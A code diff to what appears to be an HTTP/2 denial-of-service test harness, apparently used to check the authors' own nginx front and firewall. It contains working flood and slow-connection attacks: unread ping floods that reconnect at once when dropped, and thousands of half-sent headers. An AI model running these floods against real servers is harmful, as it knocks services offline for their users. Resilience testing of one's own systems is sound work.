@@ -149,10 +149,28 @@ def flood(kept: list[http2.Connection], chunk: bytes, end: float) -> int:
 
 
 def unread(chunk: bytes, connections: int = 4) -> dict:
-    """Sends `chunk` on some connections, and reads none of the answers: each one waits in the server."""
-    end = time.monotonic() + SECONDS
-    kept = [connect(unread=True) for _ in range(connections)]
-    return {"connections": len(kept), "mib": flood(kept, chunk, end) >> 20}
+    """Sends `chunk` on some connections, and reads none of the answers: each one waits in the server. A connection that the
+    server ends or refuses is tried again at once."""
+    end, begun, refused, sent = time.monotonic() + SECONDS, 0, 0, 0
+    kept: list[http2.Connection | None] = [None] * connections
+    while time.monotonic() < end:
+        for number, one in enumerate(kept):
+            try:
+                if one is None:
+                    refused += 1
+                    one = kept[number] = connect(unread=True, patience=0.02)
+                    one.socket.setblocking(False)
+                    refused, begun = refused - 1, begun + 1
+                sent += one.socket.send(chunk)
+            except BlockingIOError:
+                pass
+            except OSError:
+                if one:
+                    one.close()
+                kept[number] = None
+    for one in filter(None, kept):
+        one.close()
+    return {"connections": begun, "refused": refused, "mib": sent >> 20}
 
 
 PINGS = A_PING * 1000
@@ -327,10 +345,12 @@ def priority_flood() -> dict:
 def crowd(count: int, whole: bytes, at_once: int, seconds: float, each_second: bool = False) -> dict:
     """Opens `count` connections, sends the first `at_once` bytes of `whole` on each, then perhaps one byte a second. They stay
     open for `seconds`."""
-    kept, refused = [], 0
+    kept, refused, most = [], 0, time.monotonic() + SECONDS / 2
     for _ in range(count):
+        if time.monotonic() > most:  # a firewall does not answer
+            break
         try:
-            kept.append(connect())
+            kept.append(connect(patience=1))
             kept[-1].socket.sendall(whole[:at_once])
         except OSError:
             refused += 1
@@ -410,12 +430,12 @@ ATTACKS = {attack.__name__: attack for attack in (
     large_headers, ping_flood, unread_pings, pings_after_the_end, settings_flood, unread_settings, window_flips, window_overflow,
     empty_data_flood, settings_changes, priority_flood, goaway_flood, unknown_frames, frames_out_of_place, other_protocols, odd_requests,
     half_headers, silent_connections, open_calls, readers_without_a_window, readers_without_a_window_on_one_connection)}
-# What the front does not withstand: nginx has no limit of connections. These run only by name.
-ATTACKS_THAT_SUCCEED = {"unread_pings_on_60_connections": lambda: unread(PINGS, 60),
-                        "half_headers_on_3000_connections": lambda: slow_headers(3000)}
+# What takes deploy/firewall.nft before the front: nginx has no limit of connections. These run only by name.
+ATTACKS_ON_A_FIREWALL = {"unread_pings_on_60_connections": lambda: unread(PINGS, 60),
+                         "half_headers_on_3000_connections": lambda: slow_headers(3000)}
 
 if __name__ == "__main__":
     ADDRESS, SECONDS = sys.argv[2], float(sys.argv[3])
     SOURCE = sys.argv[4] if len(sys.argv) > 4 else ""
     resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
-    print(json.dumps((ATTACKS | ATTACKS_THAT_SUCCEED)[sys.argv[1]]()))
+    print(json.dumps((ATTACKS | ATTACKS_ON_A_FIREWALL)[sys.argv[1]]()))
